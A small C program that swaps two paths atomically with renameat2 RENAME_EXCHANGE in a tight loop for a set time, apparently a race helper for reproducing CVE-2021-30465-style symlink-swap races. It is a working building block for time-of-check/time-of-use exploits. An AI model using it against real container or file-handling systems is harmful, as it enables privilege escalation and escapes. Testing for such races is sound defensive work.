// Exchanges two names as fast as it can (CVE-2021-30465 and its kind): swapper A B SECONDS.
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>
#include <linux/fs.h>

int main(int argc, char **argv) {
    time_t end = time(NULL) + (argc > 3 ? atoi(argv[3]) : 10);
    setvbuf(stdout, NULL, _IONBF, 0);
    printf("SWAPPING\n");
    long swaps = 0;
    while (swaps % 64 || time(NULL) < end) {
        if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE)) {
            perror("exchange");
            return 1;
        }
        swaps++;
    }
    printf("SWAPPED %ld\n", swaps);
    return 0;
}
